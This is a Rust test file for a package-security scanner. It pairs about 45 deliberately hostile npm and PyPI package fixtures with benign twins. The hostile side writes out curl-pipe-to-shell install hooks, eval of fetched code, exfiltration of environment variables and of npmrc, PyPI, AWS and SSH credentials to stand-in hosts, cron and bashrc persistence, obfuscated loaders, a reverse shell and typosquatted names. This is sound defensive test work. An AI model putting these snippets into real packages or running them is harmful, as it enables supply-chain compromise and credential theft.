//! Packages that were made to do harm, each beside an honest one that looks like it: both sides
//! are measured. All are ours and inert: hosts end in `.example`, and what is encoded says `true`.
//!
//! A row is one package. `sdist/` and `wheel/` before a path make it a release of PyPI with both,
//! `repository/` is what it names as its source, `before/` the version before.

use super::*;
use crate::package::{DistributionKind, FileSet, PackageRegistry, PackageSpec, PackageVersion};
use crate::scan::Ruleset;
use crate::skill::{FileContent, RawFile};

type Files = &'static [(&'static str, &'static str)];

struct Row {
    /// What is tried, and what looks like it.
    what: &'static str,
    spec: &'static str,
    hostile: Files,
    honest_spec: &'static str,
    honest: Files,
    /// The least that has to be said of the hostile one.
    least: SecurityLevel,
}

const fn row(what: &'static str, spec: &'static str, hostile: Files, honest: Files) -> Row {
    Row { what, spec, hostile, honest_spec: spec, honest, least: SecurityLevel::Warning }
}

const NPM: &str = "npm:acme-demo@1.0.1";
const PYPI: &str = "pypi:acme-demo==1.0.1";
const SETUP: (&str, &str) = ("setup.py", "from setuptools import setup\nsetup(name='acme-demo', version='1.0.1')\n");
const MANIFEST: (&str, &str) = ("package.json", r#"{"name": "acme-demo", "version": "1.0.1"}"#);
const POSTINSTALL: (&str, &str) =
    ("package.json", r#"{"name": "acme-demo", "version": "1.0.1", "scripts": {"postinstall": "node setup.js"}}"#);
const INDEX: (&str, &str) = ("index.js", "module.exports = (a, b) => a + b;\n");
const INIT: (&str, &str) = ("acme_demo/__init__.py", "from .api import add\n");

const ROWS: &[Row] = &[
    // Lifecycle scripts of npm.
    row(
        "preinstall that pipes a download into a shell",
        NPM,
        &[
            (
                "package.json",
                r#"{"name": "acme-demo", "scripts": {"preinstall": "curl -s https://cdn.stranger.example/i | sh"}}"#,
            ),
            INDEX,
        ],
        &[("package.json", r#"{"name": "acme-demo", "scripts": {"preinstall": "npx only-allow pnpm"}}"#), INDEX],
    ),
    row(
        "postinstall that downloads a file and starts it",
        NPM,
        &[(
            "package.json",
            r#"{"name": "acme-demo", "scripts": {"postinstall": "wget -q https://cdn.stranger.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a"}}"#,
        )],
        &[("package.json", r#"{"name": "acme-demo", "scripts": {"postinstall": "node-gyp rebuild || true"}}"#)],
    ),
    row(
        "install script that runs what it fetches",
        NPM,
        &[
            ("package.json", r#"{"name": "acme-demo", "scripts": {"install": "node install.js"}}"#),
            (
                "install.js",
                "const { execSync } = require('child_process');\nfetch('https://cdn.stranger.example/p').then(r => r.text()).then(t => eval(t));\n",
            ),
        ],
        &[
            ("package.json", r#"{"name": "acme-demo", "scripts": {"install": "node install.js"}}"#),
            (
                "install.js",
                "const { execSync } = require('child_process');\nexecSync('node-gyp rebuild', { stdio: 'inherit' });\n",
            ),
        ],
    ),
    row(
        "environment sent from a lifecycle script",
        NPM,
        &[
            POSTINSTALL,
            (
                "setup.js",
                "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst r = https.request({ hostname: 'in.stranger.example', method: 'POST' });\nr.write(body);\nr.end();\n",
            ),
        ],
        &[POSTINSTALL, ("setup.js", "if (process.env.CI) { console.log('skipped on CI'); }\n")],
    ),
    row(
        "token of npm read and sent",
        NPM,
        &[
            POSTINSTALL,
            (
                "setup.js",
                "const fs = require('fs'), os = require('os');\nconst token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nfetch('https://in.stranger.example/t', { method: 'POST', body: token });\n",
            ),
        ],
        &[
            POSTINSTALL,
            (
                "setup.js",
                "const fs = require('fs');\nif (!fs.existsSync('.npmrc')) { console.log('no settings in this folder'); }\n",
            ),
        ],
    ),
    row(
        "the harm lies two files away from the script",
        NPM,
        &[
            POSTINSTALL,
            ("setup.js", "require('./lib/start');\n"),
            ("lib/start.js", "require('./data/table')();\n"),
            (
                "lib/data/table.js",
                "module.exports = () => require('child_process').execSync('curl -s https://cdn.stranger.example/i | bash');\n",
            ),
        ],
        &[
            POSTINSTALL,
            ("setup.js", "require('./lib/start');\n"),
            ("lib/start.js", "require('./data/table')();\n"),
            ("lib/data/table.js", "module.exports = () => console.log('thank you for installing');\n"),
        ],
    ),
    row(
        "a program written into the command",
        NPM,
        &[(
            "package.json",
            r#"{"name": "acme-demo", "scripts": {"postinstall": "node -e \"require('https').get('https://cdn.stranger.example/p', r => r.on('data', d => eval(d.toString())))\""}}"#,
        )],
        &[("package.json", r#"{"name": "acme-demo", "scripts": {"test": "node -e \"require('./index')\""}}"#), INDEX],
    ),
    row(
        "a build file of node-gyp that fetches",
        NPM,
        &[
            MANIFEST,
            (
                "binding.gyp",
                "{'targets': [{'target_name': 'x', 'sources': ['<!(curl -s https://cdn.stranger.example/i | sh)']}]}\n",
            ),
        ],
        &[
            MANIFEST,
            (
                "binding.gyp",
                "{'targets': [{'target_name': 'x', 'sources': ['x.cc'], 'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include_dir\")']}]}\n",
            ),
        ],
    ),
    row(
        "facts about the machine sent at installation",
        NPM,
        &[
            ("package.json", r#"{"name": "acme-demo", "scripts": {"preinstall": "node index.js"}}"#),
            (
                "index.js",
                "const os = require('os'), https = require('https');\nconst body = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });\nconst r = https.request({ hostname: 'in.stranger.example', method: 'POST' });\nr.write(body);\nr.end();\n",
            ),
        ],
        &[
            ("package.json", r#"{"name": "acme-demo", "scripts": {"preinstall": "node index.js"}}"#),
            (
                "index.js",
                "const os = require('os');\nif (os.platform() === 'win32') console.log('needs build tools');\n",
            ),
        ],
    ),
    row(
        "a shell script that stays behind",
        NPM,
        &[
            ("package.json", r#"{"name": "acme-demo", "scripts": {"postinstall": "sh setup.sh"}}"#),
            ("setup.sh", "(crontab -l; echo '* * * * * curl -s https://cdn.stranger.example/t | sh') | crontab -\n"),
        ],
        &[
            ("package.json", r#"{"name": "acme-demo", "scripts": {"postinstall": "sh setup.sh"}}"#),
            ("setup.sh", "mkdir -p build && cc -o build/demo demo.c\n"),
        ],
    ),
    // setup.py, and back ends.
    row(
        "setup.py that pipes a download into a shell",
        PYPI,
        &[(
            "setup.py",
            "import os\nfrom setuptools import setup\nos.system('curl -s https://cdn.stranger.example/i | sh')\nsetup(name='acme-demo')\n",
        )],
        &[(
            "setup.py",
            "import subprocess\nfrom setuptools import setup\nversion = subprocess.check_output(['git', 'describe']).decode()\nsetup(name='acme-demo', version=version)\n",
        )],
    ),
    row(
        "setup.py that decodes and executes",
        PYPI,
        &[(
            "setup.py",
            "import base64\nfrom setuptools import setup\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RydWUnKQ=='))\nsetup(name='acme-demo')\n",
        )],
        &[
            (
                "setup.py",
                "from setuptools import setup\nexec(open('acme_demo/version.py').read())\nsetup(name='acme-demo', version=__version__)\n",
            ),
            ("acme_demo/version.py", "__version__ = '1.0.1'\n"),
        ],
    ),
    row(
        "a command of setup.py that runs what it fetches",
        PYPI,
        &[(
            "setup.py",
            "import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Install(install):\n    def run(self):\n        install.run(self)\n        exec(urllib.request.urlopen('https://cdn.stranger.example/p').read())\n\nsetup(name='acme-demo', cmdclass={'install': Install})\n",
        )],
        &[(
            "setup.py",
            "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n\nclass Build(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '--build', '.'])\n\nsetup(name='acme-demo', cmdclass={'build_ext': Build})\n",
        )],
    ),
    row(
        "setup.py that sends the environment",
        PYPI,
        &[(
            "setup.py",
            "import os, json, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://in.stranger.example/e', data=json.dumps(dict(os.environ)).encode())\nsetup(name='acme-demo')\n",
        )],
        &[(
            "setup.py",
            "import os\nfrom setuptools import setup\nuse_ext = os.environ.get('ACME_EXT', '1') == '1'\nsetup(name='acme-demo')\n",
        )],
    ),
    row(
        "setup.py that reads the credentials of PyPI",
        PYPI,
        &[(
            "setup.py",
            "import os, requests\nfrom setuptools import setup\nrequests.post('https://in.stranger.example/t', data=open(os.path.expanduser('~/.pypirc')).read())\nsetup(name='acme-demo')\n",
        )],
        &[(
            "setup.py",
            "from setuptools import setup\nlong_description = open('README.rst').read()\nsetup(name='acme-demo', long_description=long_description)\n",
        )],
    ),
    row(
        "setup.py that writes a start file of the shell",
        PYPI,
        &[(
            "setup.py",
            "import os\nfrom setuptools import setup\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl -s https://cdn.stranger.example/t | sh\\n')\nsetup(name='acme-demo')\n",
        )],
        &[(
            "setup.py",
            "from setuptools import setup\nwith open('acme_demo/_build.py', 'w') as f:\n    f.write('built = True\\n')\nsetup(name='acme-demo')\n",
        )],
    ),
    row(
        "a module that setup.py loads",
        PYPI,
        &[
            (
                "setup.py",
                "from setuptools import setup\nfrom build_helpers import prepare\nprepare()\nsetup(name='acme-demo')\n",
            ),
            (
                "build_helpers.py",
                "import os\ndef prepare():\n    os.system('curl -s https://cdn.stranger.example/i | sh')\n",
            ),
        ],
        &[
            (
                "setup.py",
                "from setuptools import setup\nfrom build_helpers import prepare\nprepare()\nsetup(name='acme-demo')\n",
            ),
            (
                "build_helpers.py",
                "import subprocess\ndef prepare():\n    subprocess.check_call(['cythonize', 'acme_demo/speed.pyx'])\n",
            ),
        ],
    ),
    row(
        "a build back end of its own that runs what it fetches",
        PYPI,
        &[
            (
                "pyproject.toml",
                "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
            ),
            (
                "_build/backend.py",
                "import urllib.request\ndef build_wheel(directory, settings=None, metadata=None):\n    exec(urllib.request.urlopen('https://cdn.stranger.example/p').read())\n",
            ),
        ],
        &[
            (
                "pyproject.toml",
                "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
            ),
            (
                "_build/backend.py",
                "import subprocess\ndef build_wheel(directory, settings=None, metadata=None):\n    subprocess.check_call(['cc', 'demo.c'])\n",
            ),
        ],
    ),
    row(
        "a back end that gives a token away",
        PYPI,
        &[
            ("pyproject.toml", "[build-system]\nbuild-backend = \"tool.api:hooks\"\nbackend-path = [\".\"]\n"),
            (
                "tool/api.py",
                "import os, urllib.request\ndef build_sdist(directory, settings=None):\n    urllib.request.urlopen('https://in.stranger.example/t', data=os.environ['PYPI_TOKEN'].encode())\n",
            ),
        ],
        &[
            ("pyproject.toml", "[build-system]\nbuild-backend = \"tool.api:hooks\"\nbackend-path = [\".\"]\n"),
            (
                "tool/api.py",
                "import os\ndef build_sdist(directory, settings=None):\n    return os.path.join(directory, 'acme_demo-1.0.1.tar.gz')\n",
            ),
        ],
    ),
    // What runs when it is used.
    row(
        "an eval of what was encoded in base64",
        NPM,
        &[
            MANIFEST,
            (
                "index.js",
                "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCd0cnVlJyk=', 'base64').toString());\n",
            ),
        ],
        &[MANIFEST, ("index.js", "const logo = Buffer.from('iVBORw0KGgo=', 'base64');\nmodule.exports = logo;\n")],
    ),
    row(
        "a loader in hexadecimal digits",
        PYPI,
        &[
            SETUP,
            (
                "acme_demo/__init__.py",
                "exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d2827747275652729').decode())\n",
            ),
        ],
        &[SETUP, ("acme_demo/__init__.py", "MAGIC = bytes.fromhex('89504e470d0a1a0a')\n")],
    ),
    row(
        "a loader that is compressed and encoded",
        PYPI,
        &[
            SETUP,
            (
                "acme_demo/__init__.py",
                "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2BmK94sriktRcDfWSotJUdU0uAKKNChc=')))\n",
            ),
        ],
        &[
            SETUP,
            (
                "acme_demo/__init__.py",
                "import base64, zlib\nTABLE = zlib.decompress(base64.b64decode('eJxL1EnSSeZKRCIBLZwEmQ=='))\n",
            ),
        ],
    ),
    row(
        "names of an obfuscator around a sink",
        NPM,
        &[
            MANIFEST,
            (
                "index.js",
                "var _0x1a2b=['\\x65\\x76\\x61\\x6c'];var _0x3c4d=function(_0x5e6f){return _0x1a2b[_0x5e6f];};\nvar _0x7a8b=_0x3c4d(0x0);var _0x9c0d=_0x7a8b;var _0x1e2f=_0x9c0d;var _0x3a4b=_0x1e2f;\nvar _0x5c6d=_0x3a4b;var _0x7e8f=_0x5c6d;var _0x1111=_0x7e8f;var _0x2222=_0x1111;\nrequire('child_process').execSync(Buffer.from('dHJ1ZQ==','base64').toString());eval(_0x2222);\n",
            ),
        ],
        &[MANIFEST, ("index.js", "var a=[1,2,3];var b=function(c){return a[c]};module.exports=b;\n")],
    ),
    row(
        "a path file that starts a program",
        PYPI,
        &[
            SETUP,
            INIT,
            ("acme_demo/api.py", "def add(a, b):\n    return a + b\n"),
            ("demo.pth", "import os; os.system('curl -s https://cdn.stranger.example/i | sh')\n"),
        ],
        &[SETUP, INIT, ("acme_demo/api.py", "def add(a, b):\n    return a + b\n"), ("demo.pth", "acme_demo/vendor\n")],
    ),
    row(
        "a path file that decodes",
        PYPI,
        &[SETUP, ("zz.pth", "import base64; exec(base64.b64decode('cGFzcw=='))\n")],
        &[SETUP, ("zz.pth", "../shared\n")],
    ),
    row(
        "harm in __init__.py",
        PYPI,
        &[
            SETUP,
            (
                "acme_demo/__init__.py",
                "import urllib.request\nexec(urllib.request.urlopen('https://cdn.stranger.example/p').read())\n",
            ),
        ],
        &[
            SETUP,
            (
                "acme_demo/__init__.py",
                "import json, urllib.request\ndef rates():\n    return json.load(urllib.request.urlopen('https://api.vendor.example/rates'))\n",
            ),
        ],
    ),
    row(
        "keys of the cloud sent when it is imported",
        PYPI,
        &[
            SETUP,
            (
                "acme_demo/__init__.py",
                "import os, requests\nrequests.post('https://in.stranger.example/k', data=open(os.path.expanduser('~/.aws/credentials')).read())\n",
            ),
        ],
        &[SETUP, ("acme_demo/__init__.py", "import os\nprofile = os.environ.get('AWS_PROFILE', 'default')\n")],
    ),
    row(
        "a key of SSH sent when it is used",
        NPM,
        &[
            MANIFEST,
            (
                "index.js",
                "const fs = require('fs'), os = require('os');\nfetch('https://in.stranger.example/k', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') });\n",
            ),
        ],
        &[
            MANIFEST,
            ("index.js", "const fs = require('fs');\nmodule.exports = (path) => fs.readFileSync(path, 'utf8');\n"),
        ],
    ),
    row(
        "harm in a file that is called a test, and that the package loads",
        NPM,
        &[
            ("package.json", r#"{"name": "acme-demo", "main": "index.js"}"#),
            ("index.js", "require('./test/data');\nmodule.exports = 1;\n"),
            ("test/data.js", "require('child_process').execSync('curl -s https://cdn.stranger.example/i | sh');\n"),
        ],
        &[
            ("package.json", r#"{"name": "acme-demo", "main": "index.js"}"#),
            INDEX,
            ("test/data.js", "require('child_process').execSync('curl -s https://cdn.stranger.example/i | sh');\n"),
        ],
    ),
    row(
        "a script of the installation in a folder of tests",
        NPM,
        &[
            ("package.json", r#"{"name": "acme-demo", "scripts": {"postinstall": "node test/run.js"}}"#),
            ("test/run.js", "require('child_process').execSync('curl -s https://cdn.stranger.example/i | sh');\n"),
        ],
        &[
            ("package.json", r#"{"name": "acme-demo", "scripts": {"test": "node test/run.js"}}"#),
            ("test/run.js", "require('assert').equal(1, 1);\n"),
        ],
    ),
    row(
        "a shell that is opened to the outside",
        PYPI,
        &[
            SETUP,
            (
                "acme_demo/__init__.py",
                "import socket, subprocess, os\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nos.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
            ),
        ],
        &[
            SETUP,
            (
                "acme_demo/__init__.py",
                "import socket\ndef is_open(host, port):\n    with socket.create_connection((host, port), timeout=1):\n        return True\n",
            ),
        ],
    ),
    row(
        "a webhook that collects",
        NPM,
        &[
            POSTINSTALL,
            (
                "setup.js",
                "fetch('https://discord.com/api/webhooks/1234567890/abcdefghijklmnop', { method: 'POST', body: JSON.stringify({ content: JSON.stringify(process.env) }) });\n",
            ),
        ],
        &[POSTINSTALL, ("setup.js", "console.log('read the manual before you upgrade');\n")],
    ),
    // Programs.
    Row {
        least: SecurityLevel::Caution,
        ..row(
            "a program that is called an addon of Node.js",
            NPM,
            &[("package.json", r#"{"name": "acme-demo", "main": "build/demo.node"}"#), ("build/demo.node", ELF)],
            &[("package.json", r#"{"name": "acme-demo", "main": "index.js"}"#), INDEX],
        )
    },
    Row {
        least: SecurityLevel::Caution,
        ..row(
            "a program in a wheel for any machine",
            PYPI,
            &[
                ("sdist/setup.py", "from setuptools import setup\nsetup(name='acme-demo')\n"),
                ("wheel/acme_demo/helper", ELF),
            ],
            &[
                ("sdist/setup.py", "from setuptools import setup\nsetup(name='acme-demo')\n"),
                ("wheel/acme_demo/data.json", "{}"),
            ],
        )
    },
    row(
        "a program that is called a picture",
        NPM,
        &[MANIFEST, INDEX, ("assets/logo.png", ELF)],
        &[MANIFEST, INDEX, ("assets/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>")],
    ),
    // Names and versions.
    Row {
        honest_spec: "npm:express@5.0.0",
        ..row("two letters of a name are swapped", "npm:exprses@5.0.0", &[INDEX], &[INDEX])
    },
    Row {
        honest_spec: "npm:lodash@4.0.0",
        ..row("a figure for a letter of a name", "npm:l0dash@4.0.0", &[INDEX], &[INDEX])
    },
    Row {
        honest_spec: "pypi:requests==2.0",
        ..row("a name that is mistyped", "pypi:reqeusts==2.0", &[SETUP], &[SETUP])
    },
    Row {
        honest_spec: "npm:@babel/core@7.0.0",
        ..row("a scope that is misspelt", "npm:@bable/core@7.0.0", &[INDEX], &[INDEX])
    },
    Row {
        least: SecurityLevel::Caution,
        honest_spec: "npm:acme-billing-core@9.9.9",
        ..row("a version above all others", "npm:acme-billing-core@99.9.9", &[INDEX], &[INDEX])
    },
    Row {
        honest_spec: "npm:acme-billing-core@2.1.0",
        ..row(
            "a version above all others, and a step that tells of the machine",
            "npm:acme-billing-core@99.9.9",
            &[
                ("package.json", r#"{"name": "acme-billing-core", "scripts": {"preinstall": "node i.js"}}"#),
                ("i.js", "require('https').get('https://in.stranger.example/?h=' + require('os').hostname());\n"),
            ],
            &[
                ("package.json", r#"{"name": "acme-billing-core", "scripts": {"preinstall": "node i.js"}}"#),
                ("i.js", "console.log(1);\n"),
            ],
        )
    },
    // Source, wheel, repository, version before.
    row(
        "the source is clean and the wheel is not",
        PYPI,
        &[
            ("sdist/src/acme_demo/__init__.py", "x = 1\n"),
            (
                "wheel/acme_demo/__init__.py",
                "x = 1\nimport urllib.request\nexec(urllib.request.urlopen('https://cdn.stranger.example/p').read())\n",
            ),
        ],
        &[
            ("sdist/src/acme_demo/__init__.py", "x = 1\n"),
            ("wheel/acme_demo/__init__.py", "x = 1\n"),
            ("wheel/acme_demo/_version.py", "version = '1.0.1'\n"),
        ],
    ),
    Row {
        least: SecurityLevel::Caution,
        ..row(
            "a path file that only the wheel has",
            PYPI,
            &[("sdist/acme_demo/__init__.py", "x = 1\n"), ("wheel/demo.pth", "import demo_start\n")],
            &[("sdist/acme_demo/__init__.py", "x = 1\n"), ("wheel/demo-1.0.1.dist-info/METADATA", "Name: acme-demo\n")],
        )
    },
    row(
        "a step of the installation that the repository has not",
        NPM,
        &[
            POSTINSTALL,
            ("setup.js", "fetch('https://cdn.stranger.example/c').then(r => r.json());\n"),
            ("repository/package.json", r#"{"name": "acme-demo", "version": "1.0.1"}"#),
            ("repository/index.js", "module.exports = 1;\n"),
            ("index.js", "module.exports = 1;\n"),
        ],
        &[
            MANIFEST,
            ("dist/index.js", "module.exports=1;\n"),
            ("repository/package.json", r#"{"name": "acme-demo", "version": "1.0.1", "scripts": {"build": "tsc"}}"#),
            ("repository/src/index.ts", "export default 1;\n"),
        ],
    ),
    row(
        "a repository that is somebody else's",
        NPM,
        &[
            MANIFEST,
            ("helper.js", "module.exports = 1;\n"),
            ("repository/package.json", r#"{"name": "something-famous"}"#),
            ("repository/index.js", "module.exports = 2;\n"),
        ],
        &[
            MANIFEST,
            ("helper.js", "module.exports = 1;\n"),
            ("repository/packages/acme/package.json", r#"{"name": "acme-demo"}"#),
            ("repository/packages/acme/helper.js", "module.exports = 1;\n"),
        ],
    ),
    row(
        "a patch that begins to run what it fetches",
        NPM,
        &[
            POSTINSTALL,
            ("setup.js", "require('child_process').execSync('curl -s https://cdn.stranger.example/i | sh');\n"),
            ("before/package.json", r#"{"name": "acme-demo", "version": "1.0.0"}"#),
        ],
        &[
            MANIFEST,
            ("index.js", "module.exports = (a, b) => a + b + 0;\n"),
            ("before/package.json", r#"{"name": "acme-demo", "version": "1.0.0"}"#),
            ("before/index.js", "module.exports = (a, b) => a + b;\n"),
        ],
    ),
    row(
        "a patch whose setup.py begins to write outside",
        PYPI,
        &[
            (
                "setup.py",
                "from setuptools import setup\nwith open('/etc/profile.d/demo.sh', 'w') as f:\n    f.write('true\\n')\nsetup(name='acme-demo')\n",
            ),
            ("before/setup.py", "from setuptools import setup\nsetup(name='acme-demo')\n"),
        ],
        &[
            ("setup.py", "from setuptools import setup\nsetup(name='acme-demo', python_requires='>=3.10')\n"),
            ("before/setup.py", "from setuptools import setup\nsetup(name='acme-demo')\n"),
        ],
    ),
];

/// The head of a program for Linux on x86_64, of which nothing could run. `{ELF}` keeps it text.
const ELF: &str = "{ELF}";

fn content(text: &str) -> FileContent {
    if text != ELF {
        return FileContent::Bytes(text.as_bytes().to_vec());
    }
    let mut bytes = b"\x7fELF\x02\x01\x01".to_vec();
    bytes.resize(18, 0);
    bytes.extend([62, 0, 1, 0, 0, 0, 0xff, 0xfe]);
    bytes.resize(64, 0);
    FileContent::Bytes(bytes)
}

fn set(files: Files, folder: &str) -> FileSet {
    let others = ["sdist/", "wheel/", "repository/", "before/"];
    let files = files.iter().filter_map(|(path, text)| {
        let path = match folder {
            "" if others.iter().any(|other| path.starts_with(other)) => return None,
            folder => path.strip_prefix(folder)?,
        };
        Some(RawFile { path: path.to_owned(), content: content(text), is_executable: false })
    });
    FileSet { files: files.collect(), unread: Vec::new() }
}

fn reviewed(file_name: &str, kind: DistributionKind, set: FileSet) -> (ReviewedFile, FileSet) {
    let digest = set.digest();
    (ReviewedFile::of(file_name.to_owned(), kind, digest, 1, &set), set)
}

fn release(registry: PackageRegistry, files: Files) -> Vec<(ReviewedFile, FileSet)> {
    let wheel = set(files, "wheel/");
    match registry {
        PackageRegistry::Npm => vec![reviewed("demo-1.tgz", DistributionKind::Tarball, set(files, ""))],
        PackageRegistry::Pypi if wheel.files.is_empty() => {
            vec![reviewed("demo-1.tar.gz", DistributionKind::Sdist, set(files, ""))]
        }
        PackageRegistry::Pypi => vec![
            reviewed("demo-1-py3-none-any.whl", DistributionKind::Wheel, wheel),
            reviewed("demo-1.tar.gz", DistributionKind::Sdist, set(files, "sdist/")),
        ],
    }
}

fn review(spec: &str, files: Files) -> PackageReview {
    let spec = PackageSpec::parse(spec).expect("a spec");
    let registry = spec.registry;
    let mut compared = Compared::with_nothing();
    let repository = set(files, "repository/");
    if !repository.files.is_empty() {
        compared.repository = Some(("v1.0.1".to_owned(), repository));
    }
    let before = set(files, "before/");
    if !before.files.is_empty() {
        let version = PackageVersion::parse(registry, "1.0.0").expect("a version");
        let kind = if registry == PackageRegistry::Npm { DistributionKind::Tarball } else { DistributionKind::Sdist };
        compared.before = Some((version, vec![reviewed("before.tgz", kind, before)]));
    }
    let files = release(registry, files);
    PackageReview::compared(spec, files, Vec::new(), None, Ruleset::builtin(), compared).expect("a review")
}

#[test]
fn every_hostile_package_is_told_from_the_honest_one_beside_it() {
    let mut failures = Vec::new();
    for row in ROWS {
        let hostile = review(row.spec, row.hostile);
        if hostile.security_level() < row.least {
            failures.push(format!("{}: {:?} {:?}", row.what, hostile.security_level(), hostile.warnings()));
        }
        let honest = review(row.honest_spec, row.honest);
        if honest.security_level() > SecurityLevel::Clear {
            failures.push(format!("the twin of {}: {:?} {:?}", row.what, honest.security_level(), honest.warnings()));
        }
    }
    assert!(ROWS.len() >= 40, "{}", ROWS.len());
    assert!(failures.is_empty(), "{} of {}\n{}", failures.len(), 2 * ROWS.len(), failures.join("\n"));
}

#[test]
fn a_name_alone_is_never_dangerous() {
    for spec in ["npm:exprses@1.0.0", "npm:l0dash@1.0.0", "pypi:reqeusts==1.0", "npm:@bable/core@1.0.0"] {
        assert_eq!(review(spec, &[INDEX]).security_level(), SecurityLevel::Warning, "{spec}");
    }
}

#[test]
fn what_came_since_the_version_before_is_told_without_a_verdict() {
    let review = review(
        NPM,
        &[
            MANIFEST,
            ("index.js", "fetch('https://api.vendor.example/v1');\n"),
            ("more.js", "module.exports = 1;\n"),
            ("before/package.json", r#"{"name": "acme-demo", "version": "1.0.0"}"#),
            ("before/index.js", "module.exports = 1;\n"),
        ],
    );
    let jump = review.jump.expect("it was compared");
    assert_eq!((jump.before.as_str(), jump.step.as_str()), ("1.0.0", "patch"));
    assert_eq!((jump.code_changed_count, jump.hosts_added), (1, vec!["api.vendor.example".to_owned()]));
    assert_eq!(review.scanned.report.status, crate::scan::SafetyStatus::Safe);
    assert_eq!(review.compared_with, ["version 1.0.0"]);
}

#[test]
fn programs_say_how_far_an_analysis_went() {
    let rows: [(&str, Files, AnalysisType); 4] = [
        (NPM, &[MANIFEST, INDEX], AnalysisType::Full),
        (NPM, &[MANIFEST, INDEX, ("bin/demo", ELF)], AnalysisType::Partial),
        (NPM, &[MANIFEST, ("bin/demo", ELF)], AnalysisType::BinaryOnly),
        (PYPI, &[("sdist/setup.py", "import setuptools\n"), ("wheel/acme_demo/x.so", ELF)], AnalysisType::Partial),
    ];
    for (spec, files, expected) in rows {
        let review = review(spec, files);
        assert_eq!(review.analysis, expected, "{files:?}");
        let is_program = |file: &&(&str, &str)| file.1 == ELF;
        assert_eq!(review.programs.len(), files.iter().filter(is_program).count());
    }
}
